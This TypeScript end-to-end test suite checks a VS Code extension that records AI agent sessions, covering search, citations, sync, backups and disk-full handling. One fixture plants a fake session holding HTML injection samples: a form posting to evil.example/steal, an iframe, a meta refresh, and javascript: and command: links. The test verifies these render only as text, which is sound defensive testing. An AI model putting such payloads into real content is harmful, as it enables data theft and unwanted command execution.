// The extension in a real VS Code (code-server 4.139 on Node 24) in a real browser (Debian
// Chromium via playwright-core), with HOME at a copy of the fixtures and a local-folder store.
// One code-server for the whole file: starting one costs seconds, each check costs less. The
// checks run in order and build on each other (the floor the first one waits for is the one the
// later ones read).
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import type { Page } from 'playwright-core';
import { INPUT_SCHEMAS, LM_TOOL_PREFIX, type ToolName } from '../../src/core/recall/types';
import { REPO as REPO_ROOT, sandbox, type Sandbox } from '../helpers/env';
import { ARTIFACTS, bulk, openWindow, openWorkbench, packageOnce, runCommand, screenshot, startCodeServer, STATUS_ITEM, until, webviewText, type CodeServer, type Workbench } from './harness';

// A Claude Code session whose text carries markup a page would act on (the reader must show it).
const HOSTILE_PHRASE = 'quokka hostile markup phrase';
function plantHostileSession(home: string): void {
  const dir = path.join(home, '.claude', 'projects', '-work-hostile-reader');
  fs.mkdirSync(dir, { recursive: true });
  const sid = '0f0e0d0c-0b0a-4909-8807-060504030201';
  const text = [
    `${HOSTILE_PHRASE}: **bold** stays.`,
    '',
    '<form action="https://evil.example/steal" method="post"><input name="q"><button type="submit">Send</button></form>',
    '<iframe src="https://evil.example/"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<button class="cite" data-turn="1" data-i="0">Copy citation</button>',
    '',
    '[open a terminal](command:workbench.action.terminal.new) and <a href="javascript:alert(1)">this</a> <div id="turn-1" style="position:fixed">over</div>',
  ].join('\n');
  const base = { parentUuid: null, isSidechain: false, userType: 'external', cwd: '/work/hostile-reader', sessionId: sid, version: '1.0.51' };
  const lines = [
    { ...base, type: 'user', message: { role: 'user', content: text }, uuid: '11111111-1111-4111-8111-111111111111', timestamp: '2025-07-14T10:00:00.000Z' },
    { ...base, parentUuid: '11111111-1111-4111-8111-111111111111', type: 'assistant', message: { id: 'msg_hostile', type: 'message', role: 'assistant', model: 'claude-sonnet-4-20250514', content: [{ type: 'text', text: 'Noted.' }], stop_reason: 'end_turn', usage: { input_tokens: 1, output_tokens: 1 } }, uuid: '22222222-2222-4222-8222-222222222222', timestamp: '2025-07-14T10:00:01.000Z' },
  ];
  fs.writeFileSync(path.join(dir, `${sid}.jsonl`), lines.map((l) => JSON.stringify(l)).join('\n') + '\n');
}

const PI_SESSION = '.pi/agent/sessions/--fixtures-synthetic--/agentsview-session.jsonl';

describe('extension in code-server', { timeout: 900_000 }, () => {
  let sb: Sandbox;
  let cs: CodeServer;
  let wb: Workbench;
  let page: Page;
  let outDir: string;
  const timings: Record<string, number> = {};

  const command = async <T>(title: string, file: string, timeoutMs = 20_000, on: Page = page): Promise<T> => {
    const f = path.join(outDir, `${file}.json`);
    fs.rmSync(f, { force: true });
    await runCommand(on, title);
    return until(`${file}.json from "${title}"`, () => fs.existsSync(f) && (JSON.parse(fs.readFileSync(f, 'utf8')) as T), timeoutMs);
  };
  const ping = (on: Page = page) => command<{ node: string; activationMs: number; role: string; sessions: number; status: string; loop?: { max: number; p99: number; mean: number; samples: number; during: string; utilization?: number; ownMaxMs?: number }; reader?: { key: string; turn?: number } }>('Agent Brain: Test: Ping', 'ping', 20_000, on);
  const sessionsPane = () => page.locator('.pane', { has: page.locator('.pane-header', { hasText: /^Sessions/ }) }).first();
  const row = (text: string | RegExp) => sessionsPane().locator('.monaco-list-row', { hasText: text }).first();

  before(async () => {
    let t = Date.now();
    const vsix = packageOnce();
    timings.packageMs = Date.now() - t;
    sb = sandbox({ fixtures: true, name: 'e2e' });
    outDir = path.join(sb.dir, 'e2e-out');
    const store = path.join(sb.dir, 'store');
    fs.mkdirSync(store, { recursive: true });
    fs.mkdirSync(sb.brain, { recursive: true, mode: 0o700 });
    // Months of history: the first catch-up is large, and the editor's main thread is measured
    // through it (the extension's own event-loop-delay monitor).
    timings.bulkBytes = bulk(sb, 150);
    plantHostileSession(sb.home);
    fs.writeFileSync(path.join(sb.brain, 'config.toml'), `machine = "testbox"\n\n[store]\npath = ${JSON.stringify(store)}\n`, { mode: 0o600 });
    t = Date.now();
    // The quiet period is short so a line appended without a newline is captured during the test.
    cs = await startCodeServer(sb, { vsix, env: { BRAIN_E2E_OUT: outDir, BRAIN_QUIET_SECONDS: '2' } });
    timings.serverMs = Date.now() - t;
    wb = await openWorkbench(cs, sb);
    page = wb.page;
    timings.workbenchMs = wb.loadMs;
  });

  // The store stops taking writes. Root ignores permission bits, so as root every file and folder
  // of this machine's store copy is made immutable (chattr, e2fsprogs). A filesystem without that
  // flag (overlayfs, tmpfs) gets the next best thing: the machine's folder replaced by a plain
  // file, so nothing can be written under it either.
  let displaced: string | undefined;
  const lockStore = (on: boolean) => {
    const dir = path.join(sb.dir, 'store', 'testbox');
    if (!on && displaced) {
      fs.rmSync(dir, { force: true });
      fs.renameSync(displaced, dir);
      displaced = undefined;
      return;
    }
    const r =
      process.getuid?.() === 0
        ? spawnSync('chattr', ['-R', on ? '+i' : '-i', dir], { encoding: 'utf8' })
        : spawnSync('chmod', ['-R', on ? 'a-w' : 'u+w', dir], { encoding: 'utf8' });
    if (r.status !== 0 && on) {
      displaced = `${dir}.away`;
      fs.renameSync(dir, displaced);
      fs.writeFileSync(dir, 'not a folder: the store is not taking writes\n');
    }
  };

  after(async () => {
    if (sb) lockStore(false);
    if (page) await screenshot(page, 'last').catch(() => undefined);
    await wb?.close();
    await cs?.stop();
    console.log(`e2e timings: ${JSON.stringify(timings)}`);
    fs.mkdirSync(ARTIFACTS, { recursive: true });
    fs.writeFileSync(path.join(ARTIFACTS, 'e2e-figures.json'), JSON.stringify(timings, null, 1));
    if (process.env.BRAIN_KEEP_E2E !== '1') sb?.cleanup();
  });

  it('activates on Node 24, becomes the writer and records the fixtures', async () => {
    await page.locator(STATUS_ITEM).waitFor({ state: 'visible', timeout: 30_000 });
    const p = await until('the recorder to finish its catch-up', async () => {
      const r = await ping();
      return r.role === 'writer' && r.sessions > 150 && r.loop ? r : undefined;
    }, 120_000);
    assert.match(p.node, /^v24\./);
    console.log(`activation ${p.activationMs.toFixed(1)} ms; extension host event-loop delay during ${p.loop!.during}: max ${p.loop!.max.toFixed(1)} ms, p99 ${p.loop!.p99.toFixed(1)} ms, mean ${p.loop!.mean.toFixed(1)} ms (${p.loop!.samples} samples); main thread busy ${((p.loop!.utilization ?? 0) * 100).toFixed(1)}%, longest piece of the extension's own work on it ${(p.loop!.ownMaxMs ?? 0).toFixed(1)} ms`);
    timings.activationMs = Math.round(p.activationMs * 10) / 10;
    timings.loopMaxMs = Math.round(p.loop!.max * 10) / 10;
    timings.loopOwnWorkMaxMs = Math.round((p.loop!.ownMaxMs ?? 0) * 10) / 10;
    assert.ok(fs.existsSync(path.join(sb.brain, 'manifest', 'manifest.jsonl')), 'the floor has a manifest');
  });

  it('shows the fixture sessions under their agents and projects', async () => {
    await page.locator('.activitybar .action-item a[aria-label^="Agent Brain"]').first().click();
    await row('testbox').waitFor({ timeout: 20_000 });
    for (const agent of ['Claude Code', 'Codex', 'Pi', 'cursor-agent']) await row(new RegExp(`^${agent}`)).waitFor({ timeout: 10_000 });
    // Claude Code → claude-code-log (the session's working folder, by its name) → the session that asked for a GitHub Action.
    await row(/^Claude Code/).click();
    await row(/^claude-code-log/).click();
    const cc = row('Hey Claude, can you please add a Github Action');
    await cc.waitFor({ timeout: 10_000 });
    assert.match(await cc.innerText(), /\d{4}-\d{2}-\d{2} · 37 turns/);
    // Its hover: the session's facts, times local and relative ("2025-07-13 10:04, 4 months ago"),
    // never raw UTC ISO.
    await cc.hover();
    const hover = page.locator('.monaco-hover, .workbench-hover').filter({ hasText: 'turns:' }).first();
    const tip = await until('the session\'s hover', async () => ((await hover.isVisible().catch(() => false)) ? await hover.innerText() : undefined), 15_000);
    assert.match(tip, /started: \d{4}-\d{2}-\d{2} \d{2}:\d{2}, \d+ (minute|hour|day|month)s? ago/);
    assert.match(tip, /cwd: \S*claude-code-log/);
    assert.match(tip, /size: [\d.]+ (B|KB|MB), \d+ lines/);
    assert.doesNotMatch(tip, /\d{4}-\d{2}-\d{2}T\d{2}:\d{2}/, 'no raw ISO time');
    await screenshot(page, 'tree-hover');
    await page.mouse.move(0, 0);
    await row(/^Claude Code/).click();
    // Pi → my-project → "Fix the login bug".
    await row(/^Pi/).click();
    await row(/^my-project/).click();
    const pi = row('Fix the login bug');
    await pi.waitFor({ timeout: 10_000 });
    assert.match(await pi.innerText(), /4 turns/);
    await screenshot(page, 'tree');
  });

  it('updates the turn count within seconds when a session grows', async () => {
    const file = path.join(sb.home, PI_SESSION);
    const line = { type: 'message', id: 'entry-e2e', parentId: 'entry-9', timestamp: '2025-01-01T10:01:00Z', message: { role: 'user', content: [{ type: 'text', text: 'One more thing: the e2e appended turn' }], timestamp: 1735725660000 } };
    fs.appendFileSync(file, JSON.stringify(line) + '\n');
    const t = Date.now();
    await until('the Pi session to show 5 turns', async () => /5 turns/.test(await row('Fix the login bug').innerText()), 20_000);
    timings.appendToTreeMs = Date.now() - t;
  });

  it('keeps the editor responsive while a large batch of sessions is recorded and indexed', async () => {
    // Measured from inside the extension host once startup has settled, so the figure is the
    // extension's alone (the startup catch-up above overlaps VS Code's own startup work).
    const before = (await ping()).sessions;
    // Baseline, same run: the same work (150 sessions written, then captured, scanned and indexed)
    // done outside the editor, by a `brain record` with another HOME and BRAIN_HOME, while the
    // extension idles. What the editor's main thread suffers then is this machine's cores and
    // disk, not the extension's design.
    await command('Agent Brain: Test: Loop Monitor', 'loop');
    const other = path.join(sb.dir, 'baseline');
    bulk({ ...sb, home: other }, 150, '--bulk-later--');
    const cliRun = spawn(process.execPath, [path.join(REPO_ROOT, 'dist', 'cli.js'), 'record'], { env: { ...sb.env, HOME: other, BRAIN_HOME: path.join(other, '.brain') }, stdio: 'ignore' });
    assert.equal(await new Promise((res) => cliRun.on('exit', res)), 0, 'the baseline brain record');
    const base = await command<{ max: number; p99: number; p50: number; samples: number }>('Agent Brain: Test: Loop Monitor', 'loop');
    fs.rmSync(other, { recursive: true, force: true });
    await command('Agent Brain: Test: Loop Monitor', 'loop');
    const t = Date.now();
    timings.laterBulkBytes = bulk(sb, 150, '--bulk-later--');
    await until('the 150 new sessions in the tree', async () => (await ping()).sessions >= before + 150, 120_000);
    timings.laterBulkToTreeMs = Date.now() - t;
    const l = await command<{ max: number; p99: number; p50: number; mean: number; samples: number; utilization: number; activeMs: number; ownWorkMaxMs: number }>('Agent Brain: Test: Loop Monitor', 'loop');
    console.log(
      `extension host event-loop delay while recording and indexing ${(timings.laterBulkBytes / 1e6).toFixed(0)} MB: max ${l.max.toFixed(1)} ms, p99 ${l.p99.toFixed(1)} ms, p50 ${l.p50.toFixed(1)} ms over ${l.samples} samples; main thread busy ${(l.utilization * 100).toFixed(1)}% (${l.activeMs.toFixed(0)} ms), longest piece of the extension's own work on it ${l.ownWorkMaxMs.toFixed(1)} ms`,
    );
    console.log(`baseline, the same work by a brain record outside the editor: max ${base.max.toFixed(1)} ms, p99 ${base.p99.toFixed(1)} ms over ${base.samples} samples; extension / baseline max: ${(l.max / base.max).toFixed(2)}`);
    Object.assign(timings, { baselineLoopMaxMs: base.max, baselineLoopP99Ms: base.p99, laterLoopMaxMs: l.max, laterLoopP99Ms: l.p99, laterMainUtilization: l.utilization, laterOwnWorkMaxMs: l.ownWorkMaxMs });
    assert.ok(l.samples > 0, 'the monitor sampled the main thread');
  });

  it('Search Sessions finds a phrase and opens the reader at that turn', async () => {
    await runCommand(page, 'Agent Brain: Search Sessions');
    // The search box, not the palette still closing in its place.
    const input = page.locator('.quick-input-widget input[placeholder^="Search recorded sessions"]');
    await input.waitFor({ state: 'visible', timeout: 20_000 });
    await input.fill('does it only run on main');
    const hit = page.locator('.quick-input-list .monaco-list-row', { hasText: 'Hey Claude, can you please add a Github Action' }).first();
    await hit.waitFor({ timeout: 15_000 });
    await input.press('Enter');
    const frame = page.frameLocator('iframe.webview.ready').frameLocator('#active-frame');
    const turn = frame.locator('section.turn.hit');
    await turn.waitFor({ timeout: 20_000 });
    assert.equal(await turn.getAttribute('id'), 'turn-31');
    assert.match(await turn.innerText(), /does it only run on main/);
    assert.match(await turn.innerText(), /lines 48–48/);
    const p = await ping();
    assert.equal(p.reader?.turn, 31);
    await screenshot(page, 'reader');
    // The turn's Copy citation button puts a citation on the clipboard that checks by hand.
    await turn.locator('button.cite').click();
    const clip = await until('the citation on the clipboard', async () => {
      const c = await command<{ text: string }>('Agent Brain: Test: Read Clipboard', 'clipboard');
      return c.text.startsWith('{') ? c.text : undefined;
    });
    const cit = JSON.parse(clip.split('\n')[0]);
    assert.equal(cit.line_from, 48);
    const check = /sed -n '(\d+),(\d+)p' '([^']+)' \| sha256sum/.exec(clip);
    assert.ok(check, clip);
    const sh = spawnSync('sh', ['-c', `sed -n '${check[1]},${check[2]}p' "$1" | sha256sum`, 'sh', check[3]], { encoding: 'utf8' });
    assert.equal(sh.stdout.split(' ')[0], cit.sha256);
  });

  it('the reader shows HTML written in a session as text: no form, frame, meta refresh, command: link or fake button', async () => {
    await runCommand(page, 'Agent Brain: Search Sessions');
    const input = page.locator('.quick-input-widget input[placeholder^="Search recorded sessions"]');
    await input.waitFor({ state: 'visible', timeout: 20_000 });
    await input.fill(HOSTILE_PHRASE);
    const hit = page.locator('.quick-input-list .monaco-list-row', { hasText: HOSTILE_PHRASE }).first();
    await hit.waitFor({ timeout: 15_000 });
    await input.press('Enter');
    const frame = page.frameLocator('iframe.webview.ready').last().frameLocator('#active-frame');
    // The reader shows the hostile session (it replaces the session the last test opened, which
    // may still be on screen for a moment).
    const turn = frame.locator('section.turn.hit', { hasText: HOSTILE_PHRASE });
    await turn.waitFor({ timeout: 20_000 });
    assert.match(await turn.innerText(), new RegExp(HOSTILE_PHRASE));
    for (const sel of ['form', 'iframe', 'meta[http-equiv="refresh"]', 'input', 'object', 'embed', 'a[href^="command:"]', 'a[href^="javascript:"]', '.md button', '.md [id]', '.md [style]']) {
      assert.equal(await frame.locator(sel).count(), 0, `${sel} reached the page`);
    }
    // Exactly the reader's own Copy citation buttons, one per turn.
    assert.equal(await frame.locator('button').count(), await frame.locator('section.turn').count());
    // What the session said is there to read, as text.
    const text = await turn.innerText();
    assert.match(text, /<form action="https:\/\/evil\.example\/steal"/);
    assert.match(text, /<button class="cite"/);
    assert.match(text, /<meta http-equiv="refresh"/);
    assert.equal(await turn.locator('.md strong').count(), 1, "Markdown's own emphasis still renders");
    await screenshot(page, 'reader-hostile');
  });

  it('reads ok in the status bar after a sync, and failing once the store is gone', async () => {
    const item = page.locator(STATUS_ITEM);
    await runCommand(page, 'Agent Brain: Sync Now');
    await until('the status bar to read ok', async () => /backup ok/.test(await item.innerText()), 60_000);
    assert.ok(fs.existsSync(path.join(sb.dir, 'store', 'testbox', 'manifest', 'manifest.jsonl')), 'the store holds the floor');
    await page.locator('.part.statusbar').screenshot({ path: path.join(ARTIFACTS, 'statusbar-ok.png') });
    // Another machine syncs into the same store: it appears in the tree, read from the store.
    fs.cpSync(path.join(sb.dir, 'store', 'testbox'), path.join(sb.dir, 'store', 'otherbox'), { recursive: true });
    await row('otherbox').waitFor({ timeout: 30_000 });
    assert.match(await row('otherbox').innerText(), /from the store/);
    lockStore(true);
    fs.appendFileSync(path.join(sb.home, PI_SESSION), JSON.stringify({ type: 'message', id: 'entry-e2e2', parentId: 'entry-e2e', timestamp: '2025-01-01T10:02:00Z', message: { role: 'assistant', content: [{ type: 'text', text: 'noted' }] } }) + '\n');
    await runCommand(page, 'Agent Brain: Sync Now');
    const text = await until('the status bar to show a failing label', async () => {
      const t = await item.innerText();
      return /backup failing: \S/.test(t) ? t : undefined;
    }, 60_000);
    console.log(`failing label: ${text}`);
    await page.locator('.part.statusbar').screenshot({ path: path.join(ARTIFACTS, 'statusbar-failing.png') });
    // Clicking it shows the status as a page: this machine, the failing backup, every machine in the store.
    await item.click();
    const status = await webviewText(page, /Agent Brain: Status[\s\S]*otherbox/, 'the Status page with the store\'s machines');
    assert.match(status, /testbox/);
    assert.match(status, /warning/);
    await screenshot(page, 'status');
    lockStore(false);
  });

  it('answers each LM tool through vscode.lm.invokeTool with a citation that verifies', async () => {
    const session = 'fe869ecb-c176-478f-9734-7e4b8ef12cff';
    fs.mkdirSync(outDir, { recursive: true });
    const call = async (calls: { tool: string; input: object }[]) => {
      fs.writeFileSync(path.join(outDir, 'invoke-in.json'), JSON.stringify({ calls }));
      return command<{ results: { tool: string; text: string; error?: string; registered: boolean }[]; tools: { name: string; inputSchema: unknown }[] }>('Agent Brain: Test: Invoke Language Model Tools', 'invoke-out', 180_000);
    };
    const first = await call([
      { tool: 'brain_search', input: { term: 'does it only run on main', limit: 5 } },
      { tool: 'brain_read_session', input: { session, turns: '31' } },
    ]);
    for (const r of first.results) assert.ok(r.registered, `${r.tool} is registered`);
    // Each tool's schema, as VS Code registered it, is the core's declared input.
    for (const t of first.tools) {
      const want = INPUT_SCHEMAS[t.name.slice(LM_TOOL_PREFIX.length) as ToolName];
      assert.deepEqual(t.inputSchema, want, `${t.name} inputSchema`);
    }
    assert.equal(first.tools.length, 5);
    const search = JSON.parse(first.results[0].text);
    // The turn index answered (better-sqlite3's prebuild loaded in the extension host), not the scan.
    assert.equal(search.source, 'index');
    assert.equal(search.hits[0].session, session);
    const snip = search.hits[0].snippets[0];
    const read = JSON.parse(first.results[1].text);
    assert.equal(read.turns[0].n, 31);
    assert.match(read.turns[0].text, /does it only run on main/);
    assert.deepEqual(read.turns[0].citation, snip.citation);
    const lake = snip.citation.lake_path as string;
    const [cited, verified, bad, sql] = (
      await call([
        { tool: 'brain_cite', input: { lake_path: lake, line_from: snip.citation.line_from, line_to: snip.citation.line_to } },
        { tool: 'brain_verify_citation', input: { citation: snip.citation } },
        { tool: 'brain_verify_citation', input: { citation: { ...snip.citation, sha256: '0'.repeat(64) } } },
        { tool: 'brain_sql', input: { query: "SELECT count(DISTINCT session_id) AS n FROM derived.messages WHERE agent = 'claude-code'" } },
      ])
    ).results.map((r) => JSON.parse(r.text));
    assert.deepEqual(cited, snip.citation);
    assert.equal(verified.ok, true, JSON.stringify(verified));
    assert.equal(bad.ok, false);
    // The citation checks by hand, as the floor document promises.
    const sh = spawnSync('sh', ['-c', `sed -n '${cited.line_from},${cited.line_to}p' "$1" | sha256sum`, 'sh', path.join(sb.brain, lake)], { encoding: 'utf8' });
    assert.equal(sh.stdout.split(' ')[0], cited.sha256);
    assert.ok(sql.rows?.[0]?.n > 0, `brain_sql counts Claude Code sessions: ${JSON.stringify(sql)}`);
  });

  it('draws the activity picture from the DuckDB cache', async () => {
    await runCommand(page, 'Agent Brain: Show Activity');
    const frame = page.frameLocator('iframe.webview.ready').last().frameLocator('#active-frame');
    const bars = frame.locator('svg[aria-label="sessions per day per agent"] rect');
    await until('bars in the activity picture', async () => (await bars.count()) > 3, 60_000);
    assert.match(await frame.locator('body').innerText(), /From the DuckDB cache/);
    await screenshot(page, 'activity');
  });

  it('runs the other palette verbs: Verify Citation, Open Config, Run Doctor, Rebuild Caches, Back Up To Folder', async () => {
    const toast = (text: RegExp) => page.locator('.notifications-toasts .notification-toast', { hasText: text }).first();
    const clearToasts = async () => {
      await runCommand(page, 'Notifications: Clear All Notifications');
      await until('the toasts to go', async () => (await page.locator('.notifications-toasts .notification-toast').count()) === 0, 10_000);
    };
    const input = page.locator('.quick-input-widget input');
    // A citation of the fixture session, as Copy Citation leaves it on the clipboard.
    const found = JSON.parse(spawnSync(process.execPath, [path.join(REPO_ROOT, 'dist', 'cli.js'), 'search', 'does it only run on main', '--json', '--limit', '1'], { env: sb.env, encoding: 'utf8' }).stdout);
    const cit = found.hits[0].snippets[0].citation;

    // Verify Citation: offered the clipboard's citation; a good one verifies, a changed hash does not.
    await clearToasts();
    // The palette's own input stays on screen for a moment after Enter: wait for the input box of
    // the command (its prompt) before typing into it.
    const citationBox = page.locator('.quick-input-widget', { hasText: 'A citation (the JSON that Copy Citation puts on the clipboard)' });
    await runCommand(page, 'Agent Brain: Verify Citation');
    await citationBox.waitFor({ state: 'visible', timeout: 20_000 });
    await input.fill(JSON.stringify(cit));
    assert.equal(await input.inputValue(), JSON.stringify(cit));
    await input.press('Enter');
    const ok = await toast(/Citation verified/).innerText({ timeout: 20_000 });
    assert.match(ok, new RegExp(`lines ${cit.line_from}–${cit.line_to}`));
    await runCommand(page, 'Agent Brain: Verify Citation');
    await citationBox.waitFor({ state: 'visible', timeout: 20_000 });
    await input.fill(JSON.stringify({ ...cit, sha256: 'f'.repeat(64) }));
    await input.press('Enter');
    assert.match(await toast(/does not verify/).innerText({ timeout: 20_000 }), /does not verify: \S/);
    await screenshot(page, 'verify-citation');

    // Open Config: BRAIN_HOME's config.toml in an editor.
    await runCommand(page, 'Agent Brain: Open Config');
    const tab = page.locator('.tabs-container .tab.active', { hasText: 'config.toml' });
    await tab.waitFor({ timeout: 20_000 });
    const editorText = page.locator('.editor-instance .monaco-editor .view-lines').first();
    await until('the config text in the editor', async () => /machine\s*=\s*"testbox"/.test(await editorText.innerText()), 10_000);

    // Run Doctor: its checks as a page, problems first, each with its fix, the store among them.
    await runCommand(page, 'Agent Brain: Run Doctor');
    const doctor = await webviewText(page, /Agent Brain: Doctor[\s\S]*(problems? found|No problems found)/, 'the Doctor page', 60_000);
    assert.match(doctor, /\bstore\b/);
    assert.match(doctor, /skill pi/);
    await screenshot(page, 'doctor');

    // Rebuild Caches: both caches made again from the floor (new files), the tree still whole.
    const before = (await ping()).sessions;
    const ino = (f: string) => fs.statSync(path.join(sb.brain, f)).ino;
    const duckIno = fs.existsSync(path.join(sb.brain, 'brain.duckdb')) ? ino('brain.duckdb') : -1;
    const turnsIno = ino('turns.sqlite');
    await clearToasts();
    await runCommand(page, 'Agent Brain: Rebuild Caches');
    await toast(/caches rebuilt from the floor/).waitFor({ timeout: 300_000 });
    assert.notEqual(ino('brain.duckdb'), duckIno, 'brain.duckdb was written again');
    assert.notEqual(ino('turns.sqlite'), turnsIno, 'turns.sqlite was built again');
    // The window goes on with the new index: a turn appended now shows in the tree.
    const piRow = async () => (await row('Fix the login bug').innerText()).match(/(\d+) turns/)?.[1];
    const turnsBefore = Number(await piRow());
    fs.appendFileSync(path.join(sb.home, PI_SESSION), JSON.stringify({ type: 'message', id: 'entry-e2e3', parentId: 'entry-e2e2', timestamp: '2025-01-01T10:03:00Z', message: { role: 'user', content: [{ type: 'text', text: 'after the rebuild' }] } }) + '\n');
    await until(`the Pi session to show ${turnsBefore + 1} turns`, async () => Number(await piRow()) === turnsBefore + 1, 30_000);
    assert.equal((await ping()).sessions, before, 'the tree lists every session after the rebuild');

    // Back Up To Folder: the editor's folder picker, a fresh folder, the floor copied and read back.
    const dest = path.join(sb.dir, 'usb-stick');
    fs.mkdirSync(dest);
    await clearToasts();
    await runCommand(page, 'Agent Brain: Back Up To Folder…');
    // The editor's own folder picker (a path in the quick input and an OK button with our label):
    // typed into only once it is there, not into the palette it replaces.
    const pick = page.locator('.quick-input-widget .monaco-button', { hasText: 'Back up here' });
    await pick.waitFor({ state: 'visible', timeout: 20_000 });
    // It fills in its starting folder itself, a moment later (seconds on a loaded machine): type the
    // path only after that, and press OK only once the path has stayed what was typed.
    await until('the folder picker to show its starting folder', async () => (await input.inputValue()).startsWith('/'), 20_000);
    await until(
      'the folder picker to hold the typed path',
      async () => {
        if ((await input.inputValue()) !== `${dest}/`) await input.fill(`${dest}/`);
        await new Promise((r) => setTimeout(r, 500));
        return (await input.inputValue()) === `${dest}/`;
      },
      20_000,
    );
    await pick.click();
    const done = await toast(/every sampled range verifies|backed up|backup failed/)
      .innerText({ timeout: 120_000 })
      .catch(async (e) => {
        await screenshot(page, 'backup-to-folder');
        throw e;
      });
    console.log(`back up to folder: ${done}`);
    assert.doesNotMatch(done, /backup failed/);
    const local = fs.readFileSync(path.join(sb.brain, 'manifest', 'manifest.jsonl'));
    const copied = fs.readFileSync(path.join(dest, 'manifest', 'manifest.jsonl'));
    assert.ok(local.subarray(0, copied.length).equals(copied) && copied.length > 0, 'the folder holds the manifest');
    for (const l of copied.toString('utf8').trim().split('\n').slice(0, 20)) {
      const m = JSON.parse(l);
      assert.ok(fs.existsSync(path.join(dest, m.lake_path)), `${m.lake_path} copied`);
    }
  });

  it('says so in the status bar when the disk is full, and goes back once a pass works again', async () => {
    // A disk that fills up under the recorder: a pass writes new bytes straight into their lake
    // files, so a new Pi session's lake folder is a 64 KB tmpfs, made before the session is written.
    // Root only (CI runs as root).
    assert.equal(process.getuid?.(), 0, 'mounting a tmpfs needs root: run the e2e suite as root');
    const project = '--e2e-full-disk--';
    const lakeDir = path.join(sb.brain, 'lake', 'pi', project);
    fs.mkdirSync(lakeDir, { recursive: true, mode: 0o700 });
    const m = spawnSync('mount', ['-t', 'tmpfs', '-o', 'size=64k,mode=0700', 'tmpfs', lakeDir], { encoding: 'utf8' });
    assert.equal(m.status, 0, `mount -t tmpfs: ${m.stderr}`);
    let mounted = true;
    const unmount = () => {
      if (mounted) spawnSync('umount', ['-l', lakeDir]);
      mounted = false;
    };
    try {
      const item = page.locator(STATUS_ITEM);
      const origin = path.join(sb.home, '.pi', 'agent', 'sessions', project, 'full.jsonl');
      const lake = path.join(lakeDir, 'full.jsonl');
      const manifest = path.join(sb.brain, 'manifest', 'manifest.jsonl');
      const claimedBefore = fs.readFileSync(manifest);
      // A tool result of 1 MB: its bytes do not fit.
      const result = (id: string, text: string) => JSON.stringify({ type: 'message', id, parentId: 'entry-e2e3', timestamp: '2025-01-01T10:04:00Z', message: { role: 'toolResult', toolCallId: 'c-big', toolName: 'bash', content: [{ type: 'text', text }] } }) + '\n';
      fs.mkdirSync(path.dirname(origin), { recursive: true });
      fs.writeFileSync(origin, result('entry-big', 'x'.repeat(1 << 20)));
      const text = await until('the status bar to say recording failing: disk full', async () => {
        const t = await item.innerText();
        return /recording failing: disk full/.test(t) ? t : undefined;
      }, 60_000);
      console.log(`full disk: ${text}`);
      const toast = page.locator('.notifications-toasts .notification-toast', { hasText: /recording failed: the disk that holds .* is full/ }).first();
      await toast.waitFor({ timeout: 20_000 });
      assert.match(await toast.innerText(), /nothing is lost/);
      await page.locator('.part.statusbar').screenshot({ path: path.join(ARTIFACTS, 'statusbar-disk-full.png') });
      assert.ok(!fs.existsSync(lake) || fs.statSync(lake).size < fs.statSync(origin).size, 'the turn that did not fit is not on the floor yet');
      assert.ok(fs.readFileSync(manifest).subarray(0, claimedBefore.length).equals(claimedBefore), 'what the floor claimed stays claimed');
      assert.doesNotMatch(fs.readFileSync(manifest, 'utf8'), /e2e-full-disk/, 'nothing of the session that did not fit is claimed');
      // Room again: the next change is recorded, the one that did not fit with it, and the label goes.
      unmount();
      fs.appendFileSync(origin, result('entry-after', 'room again'));
      await until('the status bar to stop saying recording failing', async () => !/recording failing/.test(await item.innerText()), 60_000);
      await until('the session whole on the floor', () => fs.existsSync(lake) && fs.readFileSync(lake).equals(fs.readFileSync(origin)), 30_000);
    } finally {
      unmount();
    }
  });

  it('with a second window open, one records and the other follows, then takes over', async () => {
    const second = await openWindow(cs, wb);
    await second.locator(STATUS_ITEM).waitFor({ state: 'visible', timeout: 30_000 });
    const p2 = await until('the second window to report', async () => {
      const r = await ping(second);
      return r.role !== 'off' ? r : undefined;
    }, 30_000);
    assert.equal(p2.role, 'follower');
    assert.equal((await ping(page)).role, 'writer');
    // The follower takes no file: its status bar says nothing of a catch-up ("recording 0 files").
    const secondText = await second.locator(STATUS_ITEM).innerText();
    assert.doesNotMatch(secondText, /recording \d+ files?/, secondText);
    assert.match(secondText, /Brain|backup/, secondText);
    // The first window closes: its extension host ends and the lock with it.
    const first = page;
    page = second;
    await first.close();
    await until('the second window to take over the recorder', async () => (await ping(second)).role === 'writer', 60_000);
  });
});
